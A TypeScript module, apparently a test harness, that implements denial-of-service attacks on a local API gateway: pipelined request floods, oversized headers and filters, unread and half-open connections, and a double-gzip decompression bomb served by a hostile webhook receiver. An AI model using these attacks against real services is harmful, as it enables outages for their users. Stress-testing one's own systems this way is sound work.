// Attacks by hostile clients and receivers. Each runs until its process ends.
import { createServer, Agent, request, type OutgoingHttpHeaders } from 'node:http';
import { connect, type Socket } from 'node:net';
import { createGzip } from 'node:zlib';

export interface Target {
  /** Port of the gateway, or the port that a receiver listens on. */
  readonly port: number;
  readonly key: string;
  /** Token of a user in the attacker's company. */
  readonly token: string;
}

export type Attack = (target: Target, note: () => void) => Promise<void> | void;

/** Differs from the address of the company whose reads are measured. */
const LOCAL_ADDRESS = '127.0.0.2';
const UNKNOWN_NAMES = 100;
const PIPELINED_AT_ONCE = 1000;
const OPENED_EVERY_MS = 10;
const MANY_CONNECTIONS = 48;
const UNREAD_CONNECTIONS = 25;
/** Pages that one connection asks for and never reads. */
const UNREAD_PAGES = 8;
const LONG_ACCEPT = 'a/b;q=0.1,'.repeat(6000);
const UNKNOWN_PATHS = 20;
const WEBHOOKS = '/api/v1/integrations/webhooks';
/** Fills a filter up to its limit of 16 KB. */
const FILTER_TEXT = 'x'.repeat(14_000);
const MOST_OPEN = 2000;
/** Bytes of empty deflate blocks: a decoder reads them all and produces nothing. */
const EMPTY_BLOCKS = 8_000_000;
const BLOCKS_AT_ONCE = 10_000;

export const ATTACKS: Readonly<Record<string, Attack>> = {
  slash_pages: (target, note) => inTurn(target, '/'.repeat(60_000), { accept: 'text/html' }, note),
  pipelining_anonymous: (target, note) => pipeline(target, '', note),
  pipelining_key: (target, note) => pipeline(target, `Authorization: Bearer ${target.key}\r\n`, note),
  unknown_names(target, note) {
    const names = Array.from({ length: UNKNOWN_NAMES }, (_, index) => `${'customer_reference_of_invoice_'.repeat(2)}${index}=1`);
    inTurn(target, `/v1/jobs?${names.join('&')}`, { authorization: `Bearer ${target.key}` }, note);
  },
  accept_anonymous: (target, note) => inTurn(target, '/nowhere', { accept: LONG_ACCEPT }, note, MANY_CONNECTIONS),
  accept_reports(target, note) {
    const path = '/v1/reports/collections?start_date=2026-01-01&end_date=2026-02-01';
    inTurn(target, path, { accept: LONG_ACCEPT, authorization: `Bearer ${target.key}` }, note, MANY_CONNECTIONS);
  },
  filter_paths(target, note) {
    const paths = Array.from({ length: UNKNOWN_PATHS }, (_, index): [string, object] => [
      `${'customer_reference_of_request_'.repeat(2)}${index}`,
      { $eq: 'x' },
    ]);
    const body = JSON.stringify({ url: 'https://203.0.113.9/', eventTypes: ['service_request.created'], filter: Object.fromEntries(paths) });
    post(target, WEBHOOKS, () => body, note);
  },
  filter_previews(target, note) {
    let count = 0;
    const body = (): string => JSON.stringify({ eventTypes: ['service_request.created'], filter: { status: { $ne: `${FILTER_TEXT}${(count += 1)}` } } });
    post(target, `${WEBHOOKS}/filter-preview`, body, note);
  },
  unread_pages: (target, note) => {
    for (let connection = 0; connection < UNREAD_CONNECTIONS; connection += 1) unread(target, note);
  },
  half_open: halfOpen,
  receiver,
};

/** Changes by a user, on two connections. */
function post(target: Target, path: string, body: () => string, note: () => void): void {
  inTurn(target, path, { authorization: `Bearer ${target.token}`, 'content-type': 'application/json' }, note, 2, body);
}

/** Connections that each send the next request after the previous answer. */
function inTurn({ port }: Target, path: string, headers: OutgoingHttpHeaders, note: () => void, connections = 2, body?: () => string): void {
  const agent = new Agent({ keepAlive: true, maxSockets: connections });
  const method = body === undefined ? 'GET' : 'POST';
  const next = (): void => {
    const outgoing = request({ host: '127.0.0.1', localAddress: LOCAL_ADDRESS, port, path, method, headers, agent }, (response) => {
      response.resume().once('end', () => {
        note();
        setImmediate(next);
      });
    });
    outgoing.once('error', () => setTimeout(next, OPENED_EVERY_MS)).end(body?.());
  };
  for (let connection = 0; connection < agent.maxSockets; connection++) next();
}

/** One connection that never waits for an answer, replaced when the gateway closes it. */
function pipeline(target: Target, header: string, note: () => void): void {
  const requests = `GET /v1/jobs HTTP/1.1\r\nHost: x\r\n${header}\r\n`.repeat(PIPELINED_AT_ONCE);
  const socket = open(target);
  const write = (): void => {
    while (socket.write(requests));
  };
  socket.on('connect', write).on('drain', write).on('data', note);
  socket.once('close', () => setTimeout(pipeline, OPENED_EVERY_MS, target, header, note));
}

/** A connection that asks for pages of records and reads none, replaced when the gateway closes it. */
function unread(target: Target, note: () => void): void {
  const page = `GET /v1/jobs?limit=100 HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${target.key}\r\n\r\n`;
  const socket = open(target).pause();
  socket.once('connect', () => {
    socket.write(page.repeat(UNREAD_PAGES));
    note();
  });
  socket.once('close', () => setTimeout(unread, OPENED_EVERY_MS, target, note));
}

/** Connections that send half a request or nothing, and that the client never closes. */
function halfOpen(target: Target, note: () => void): void {
  let opened = 0;
  let left = 0;
  setInterval(() => {
    if (left >= MOST_OPEN) return;
    left += 1;
    opened += 1;
    const socket = open(target);
    socket.on('data', note).once('close', () => (left -= 1));
    socket.write(opened % 2 === 0 ? 'GET / HTTP/1.1\r\nHost:' : 'no HTTP\r\n\r\n');
    if (opened === 1) note();
  }, OPENED_EVERY_MS);
}

function open({ port }: Target): Socket {
  const socket = connect({ host: '127.0.0.1', localAddress: LOCAL_ADDRESS, port, allowHalfOpen: true });
  return socket.on('error', () => socket.destroy());
}

/** Answers each webhook with a few kilobytes in two codings. The outer one decodes to 40 MB, which decode to nothing. */
async function receiver({ port }: Target, note: () => void): Promise<void> {
  const answer = await compressed();
  const server = createServer((incoming, response) => {
    incoming.resume().once('end', () => {
      note();
      response.writeHead(200, { 'content-type': 'text/plain', 'content-encoding': 'gzip, gzip', 'content-length': answer.length }).end(answer);
    });
  });
  await new Promise<void>((resolve) => server.listen(port, '127.0.0.1', () => resolve()));
}

async function compressed(): Promise<Buffer> {
  const outer = createGzip({ level: 9 });
  const parts: Buffer[] = [];
  outer.on('data', (part: Buffer) => parts.push(part));
  const header = Buffer.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 3]);
  const blocks = Buffer.alloc(5 * BLOCKS_AT_ONCE, Buffer.from([0, 0, 0, 0xff, 0xff]));
  outer.write(header);
  for (let written = 0; written < EMPTY_BLOCKS; written += BLOCKS_AT_ONCE) outer.write(blocks);
  outer.end();
  await new Promise((resolve) => outer.once('end', resolve));
  return Buffer.concat(parts);
}
